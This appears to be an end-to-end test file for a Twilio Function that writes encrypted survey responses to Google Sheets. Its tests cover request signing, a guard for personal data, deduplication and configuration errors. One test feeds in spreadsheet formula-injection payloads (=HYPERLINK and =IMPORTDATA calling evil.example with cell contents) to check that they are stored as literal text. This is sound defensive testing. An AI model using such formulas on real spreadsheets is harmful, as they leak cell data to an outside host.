// The publish Function end to end: signed requests to the built Function on
// real twilio-run, the real Sheets client and JWT flow against the local
// Sheets server, the Sync queue through Prism.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningFunctions } from '../src/dev/functions-server.js';
import { sealResponse } from '../src/envelope/index.js';
import { newSealedKeyPair, recipientOf } from '../src/keys/keys.js';
import { SENTINEL, signedPost } from './helpers/functions.js';
import { dataRows, newSheet, newExecutionSid, publish, publishEnv, seal, startBackends, startPublish, stopAndCheck, surveyKey, type Backends } from './helpers/publish-stack.js';

let backends: Backends;
let sheetId: string;
let fn: RunningFunctions;
const servers: RunningFunctions[] = [];

async function started(env: Record<string, string>): Promise<RunningFunctions> {
  const server = await startPublish(env);
  servers.push(server);
  return server;
}

function answer(extra: Record<string, string> = {}): Record<string, string> {
  return { execution_sid: newExecutionSid(), ...seal({ name: `Amina ${SENTINEL}`, phone: `+254700${SENTINEL}` }), age: '34', comment: `fine ${SENTINEL}`, ...extra };
}

beforeAll(async () => {
  backends = await startBackends();
  sheetId = await newSheet(backends);
  // SHEET_ID as the URL copied from the browser.
  fn = await started(publishEnv(backends, `https://docs.google.com/spreadsheets/d/${sheetId}/edit#gid=0`, { SHEET_TAB: 'Responses' }));
});

// Nothing a respondent typed, and no key, reaches a log; every Sync request is one Twilio's API accepts.
afterAll(() => stopAndCheck(servers, backends, [], SENTINEL));

describe('publish: rows', () => {
  it('writes one row in header order with received_at, through a signed request', async () => {
    const before = Date.now();
    const params = answer();
    const res = await publish(fn, params);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ stored: 'sheet', duplicate: false, queued: false });
    const row = dataRows(backends, sheetId).find((r) => r[1] === params.execution_sid);
    expect(row).toBeDefined();
    const [receivedAt, sid, respondentId, name, phone, age, comment] = row as string[];
    expect(sid).toBe(params.execution_sid);
    expect(Date.parse(receivedAt as string)).toBeGreaterThanOrEqual(before - 1000);
    expect(receivedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(respondentId).toBe('');
    expect([name, phone, age, comment]).toEqual([params.name, params.phone, '34', params.comment]);
    // Read back through the real client, as an analyst's export would see it.
    const got = await backends.client.spreadsheets.values.get({ spreadsheetId: sheetId, range: "'Responses'!A:G" });
    expect(got.data.values?.some((r) => r[1] === params.execution_sid && r[3] === params.name)).toBe(true);
  });

  it('refuses unsigned and wrongly signed calls, writing nothing', async () => {
    const count = dataRows(backends, sheetId).length;
    expect((await signedPost(fn, '/publish', answer(), { signWith: null })).status).toBe(403);
    expect((await signedPost(fn, '/publish', answer(), { signWith: 'f'.repeat(32) })).status).toBe(403);
    expect(dataRows(backends, sheetId).length).toBe(count);
  });

  it('refuses a parameter with no column (422, naming it) rather than dropping it behind a 200; a sealed one too', async () => {
    const count = dataRows(backends, sheetId).length;
    const plain = await publish(fn, answer({ favourite_colour: 'blue' }));
    expect(plain.status).toBe(422);
    expect(plain.body.error.code).toBe('UNMAPPED_FIELDS');
    expect(plain.body.error.message).toContain('"favourite_colour"');
    const sealed = await publish(fn, answer(seal({ national_id: `ID ${SENTINEL}` })));
    expect(sealed.status).toBe(422);
    expect(sealed.body.error.message).toContain('"national_id"');
    expect(dataRows(backends, sheetId).length).toBe(count);
    expect(backends.sync.items()).toHaveLength(0);
  });

  it('writes formula-like answers as literal text (valueInputOption RAW)', async () => {
    const nasty = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+254 700 000', '-5', '@SUM(A1)', '=IMPORTDATA("https://evil.example/?"&A1)'];
    const sids: string[] = [];
    for (const comment of nasty) {
      const params = answer({ comment });
      sids.push(params.execution_sid as string);
      expect((await publish(fn, params)).status).toBe(200);
    }
    const grid = await backends.client.spreadsheets.get({ spreadsheetId: sheetId, includeGridData: true, ranges: ["'Responses'!A:G"] });
    const cells = grid.data.sheets?.[0]?.data?.[0]?.rowData ?? [];
    for (const [i, sid] of sids.entries()) {
      const row = cells.find((r) => r.values?.[1]?.userEnteredValue?.stringValue === sid);
      expect(row?.values?.[6]?.userEnteredValue).toEqual({ stringValue: nasty[i] });
    }
  });

  it('keeps Unicode and 4,096-character values exactly', async () => {
    const long = 'ß'.repeat(1000) + '🙂'.repeat(1000) + 'x'.repeat(1096);
    const params = answer({ comment: `Nairobi — ምላሽ — 回答 — ${long}` });
    expect((await publish(fn, params)).status).toBe(200);
    const row = dataRows(backends, sheetId).find((r) => r[1] === params.execution_sid) as string[];
    expect(row[6]).toBe(params.comment);
  });

  it('keeps one row per execution_sid when Studio calls twice', async () => {
    const params = answer();
    const first = await publish(fn, params);
    const again = await publish(fn, { ...params, comment: 'second call' });
    expect(first.body.duplicate).toBe(false);
    expect(again.status).toBe(200);
    expect(again.body.duplicate).toBe(true);
    expect(dataRows(backends, sheetId).filter((r) => r[1] === params.execution_sid)).toHaveLength(1);
  });

  it('keeps one row per response when 100 stored responses are repeated through a new Functions process (another instance, a restart)', async () => {
    const sheet = await newSheet(backends);
    const env = publishEnv(backends, sheet);
    const first = await started(env);
    const batch = Array.from({ length: 100 }, () => answer());
    const stored = await Promise.all(batch.map((p) => publish(first, p)));
    expect(stored.map((r) => r.body?.duplicate)).toEqual(batch.map(() => false));
    await first.stop();
    const second = await started(env);
    const repeated = await Promise.all(batch.map((p) => publish(second, p)));
    expect(repeated.map((r) => r.status)).toEqual(batch.map(() => 200));
    expect(repeated.map((r) => r.body.duplicate)).toEqual(batch.map(() => true));
    const sids = dataRows(backends, sheet).map((r) => r[1]).filter((sid) => sid);
    expect(sids.length).toBe(100);
    expect(new Set(sids)).toEqual(new Set(batch.map((p) => p.execution_sid)));
  });

  it('lands 100 concurrent publishes exactly once each', async () => {
    const batch = Array.from({ length: 100 }, () => answer());
    const results = await Promise.all(batch.map((p) => publish(fn, p)));
    expect(results.map((r) => r.status)).toEqual(batch.map(() => 200));
    const sids = dataRows(backends, sheetId).map((r) => r[1]);
    for (const p of batch) expect(sids.filter((s) => s === p.execution_sid)).toHaveLength(1);
  });
});

describe('publish: the PII guard', () => {
  const refusals: Array<[string, () => Record<string, string>]> = [
    ['plaintext', () => answer({ name: `Amina ${SENTINEL}` })],
    ['a token for another key', () => answer(seal({ name: `Amina ${SENTINEL}` }, newSealedKeyPair()))],
    ['a malformed token', () => answer({ name: `ss1.pk.0000.name.${SENTINEL}` })],
    ['the token of another field', () => answer({ name: seal({ phone: `+254700${SENTINEL}` }).phone as string })],
  ];
  for (const [what, make] of refusals) {
    it(`refuses ${what} in a PII column with 422, naming the column and writing nothing`, async () => {
      const count = dataRows(backends, sheetId).length;
      const res = await publish(fn, make());
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('PII_NOT_ENCRYPTED');
      expect(res.body.error.message).toContain('"name"');
      expect(res.text).not.toContain(SENTINEL);
      expect(dataRows(backends, sheetId).length).toBe(count);
      expect(backends.sync.items()).toHaveLength(0);
    });
  }

  it('accepts an empty PII answer (a skipped question)', async () => {
    const res = await publish(fn, answer({ phone: '' }));
    expect(res.status).toBe(200);
  });

  it('guards the sheet\'s columns, not parameter names: Name, NAME and an NFD header all meet the guard', async () => {
    const sheet = await newSheet(backends, ['received_at', 'execution_sid', 'Name', 'Te\u0301le\u0301phone', 'age']);
    const guarded = await started(publishEnv(backends, sheet, { PII_COLUMNS: 'name, Téléphone' }));
    for (const params of [
      { Name: `Amina ${SENTINEL}` },
      { NAME: `Amina ${SENTINEL}` },
      { T_l_phone: `+254700${SENTINEL}` },
    ]) {
      const res = await publish(guarded, { execution_sid: newExecutionSid(), ...params, age: '30' });
      expect(res.status, Object.keys(params)[0]).toBe(422);
      expect(res.body.error.code).toBe('PII_NOT_ENCRYPTED');
      expect(res.text).not.toContain(SENTINEL);
    }
    const sealed = seal({ name: `Amina ${SENTINEL}`, T_l_phone: `+254700${SENTINEL}` });
    const ok = await publish(guarded, { execution_sid: newExecutionSid(), Name: sealed.name as string, T_l_phone: sealed.T_l_phone as string, age: '30' });
    expect(ok.status).toBe(200);
    const rows = dataRows(backends, sheet, 'Responses').filter((r) => r.some((c) => c !== ''));
    expect(rows).toHaveLength(1);
    expect(rows[0]?.[2]).toBe(sealed.name);
    expect(rows[0]?.[3]).toBe(sealed.T_l_phone);
  });

  it('answers 500 naming every PII_COLUMNS entry the header lacks, writing nothing', async () => {
    const sheet = await newSheet(backends);
    const wrong = await started(publishEnv(backends, sheet, { PII_COLUMNS: 'name,phone,national_id,email' }));
    const res = await publish(wrong, answer());
    expect(res.status).toBe(500);
    expect(res.body.error.code).toBe('PII_COLUMNS_NOT_IN_SHEET');
    expect(res.body.error.message).toContain('"national_id", "email"');
    expect(dataRows(backends, sheet)).toEqual([]);
  });

  it('never lets SHEET_AUTO_HEADERS create a PII column for plaintext', async () => {
    const empty = await newSheet(backends, []);
    const auto = await started(publishEnv(backends, empty, { SHEET_AUTO_HEADERS: '1' }));
    const res = await publish(auto, { execution_sid: newExecutionSid(), Name: `Amina ${SENTINEL}` });
    expect(res.status).toBe(422);
    expect(backends.sheets.rows(empty, 'Responses')).toEqual([]);
  });

  it('refuses tokens of another execution or of two encrypt calls in one row', async () => {
    const count = dataRows(backends, sheetId).length;
    const other = Object.fromEntries(sealResponse([['name', `A ${SENTINEL}`], ['phone', `1 ${SENTINEL}`]], recipientOf(surveyKey), undefined, newExecutionSid()));
    const moved = await publish(fn, { ...answer(), ...other });
    expect(moved.status).toBe(422);
    expect(moved.body.error.code).toBe('EXECUTION_MISMATCH');
    const mixed = await publish(fn, { ...answer(), phone: seal({ phone: `2 ${SENTINEL}` }).phone as string });
    expect(mixed.status).toBe(422);
    expect(mixed.body.error.code).toBe('RESPONSE_MISMATCH');
    const executionSid = newExecutionSid();
    const own = Object.fromEntries(sealResponse([['name', `A ${SENTINEL}`], ['phone', `1 ${SENTINEL}`]], recipientOf(surveyKey), undefined, executionSid));
    expect((await publish(fn, { execution_sid: executionSid, ...own, age: '1', comment: '' })).status).toBe(200);
    expect(dataRows(backends, sheetId).length).toBe(count + 1);
  });
});

describe('publish: bad input and configuration', () => {
  it('requires execution_sid, and a SID in it', async () => {
    const { execution_sid: _, ...rest } = answer();
    const missing = await publish(fn, rest);
    expect(missing.status).toBe(400);
    expect(missing.body.error.message).toContain('{{flow.sid}}');
    expect((await publish(fn, answer({ execution_sid: 'not-a-sid' }))).status).toBe(400);
    expect((await publish(fn, answer({ received_at: '2020-01-01' }))).body.error.code).toBe('RESERVED_FIELD');
  });

  it('answers 500 CONFIG_INVALID naming ACCOUNT_SID when it is not an Account SID', async () => {
    const bad = await started(publishEnv(backends, sheetId, { ACCOUNT_SID: 'AC-not-a-sid' }));
    const res = await publish(bad, answer());
    expect(res.status).toBe(500);
    expect(res.body.error.code).toBe('CONFIG_INVALID');
    expect(res.body.error.message).toContain('ACCOUNT_SID');
    expect(bad.output()).not.toContain('internal error');
  });

  it('answers 500 CONFIG_INVALID naming SYNC_SERVICE_SID when that Sync service does not exist, writing nothing', async () => {
    const sheet = await newSheet(backends);
    const bad = await started(publishEnv(backends, sheet, { SYNC_SERVICE_SID: `IS${'0'.repeat(32)}` }));
    const res = await publish(bad, answer());
    expect(res.status).toBe(500);
    expect(res.body.error.code).toBe('CONFIG_INVALID');
    expect(res.body.error.message).toContain('SYNC_SERVICE_SID');
    expect(dataRows(backends, sheet)).toEqual([]);
  });

  it('answers 500 CONFIG_INVALID naming the variable when PII_COLUMNS or the key is missing', async () => {
    const noPii = await started(publishEnv(backends, sheetId, { PII_COLUMNS: '' }));
    const res = await publish(noPii, answer());
    expect(res.status).toBe(500);
    expect(res.body.error.code).toBe('CONFIG_INVALID');
    expect(res.body.error.message).toContain('PII_COLUMNS');
    const badKey = await started(publishEnv(backends, sheetId, { GOOGLE_SERVICE_ACCOUNT_JSON: '{"type":"service_account"}' }));
    const res2 = await publish(badKey, answer());
    expect(res2.status).toBe(500);
    expect(res2.body.error.message).toContain('GOOGLE_SERVICE_ACCOUNT_JSON');
    expect(res2.text).not.toContain('PRIVATE KEY');
  });

  it('answers 502 SHEET_NOT_FOUND for an unknown spreadsheet, queueing nothing', async () => {
    const wrong = await started(publishEnv(backends, 'x'.repeat(44)));
    const res = await publish(wrong, answer());
    expect(res.status).toBe(502);
    expect(res.body.error.code).toBe('SHEET_NOT_FOUND');
    expect(backends.sync.items()).toHaveLength(0);
  });

  it('creates and extends the header row with SHEET_AUTO_HEADERS=1', async () => {
    const empty = await newSheet(backends, []);
    const auto = await started(publishEnv(backends, empty, { SHEET_AUTO_HEADERS: '1', SHEET_MISSING_VALUE: 'No Data' }));
    const first = answer();
    expect((await publish(auto, first)).status).toBe(200);
    const header = backends.sheets.rows(empty, 'Responses')[0];
    expect(header).toEqual(['received_at', 'execution_sid', 'name', 'phone', 'age', 'comment']);
    const second = answer({ village: 'Kibera' });
    delete second.age;
    const res = await publish(auto, second);
    expect(res.status).toBe(200);
    const rows = backends.sheets.rows(empty, 'Responses');
    expect(rows[0]).toEqual(['received_at', 'execution_sid', 'name', 'phone', 'age', 'comment', 'village']);
    const row = rows.find((r) => r[1] === second.execution_sid) as string[];
    expect(row[4]).toBe('No Data');
    expect(row[6]).toBe('Kibera');
  });

  it('refuses a sheet with no header row unless SHEET_AUTO_HEADERS is set', async () => {
    const empty = await newSheet(backends, []);
    const plain = await started(publishEnv(backends, empty));
    const res = await publish(plain, answer());
    expect(res.status).toBe(500);
    expect(res.body.error.code).toBe('SHEET_HAS_NO_HEADER');
    expect(backends.sheets.rows(empty, 'Responses')).toEqual([]);
  });
});
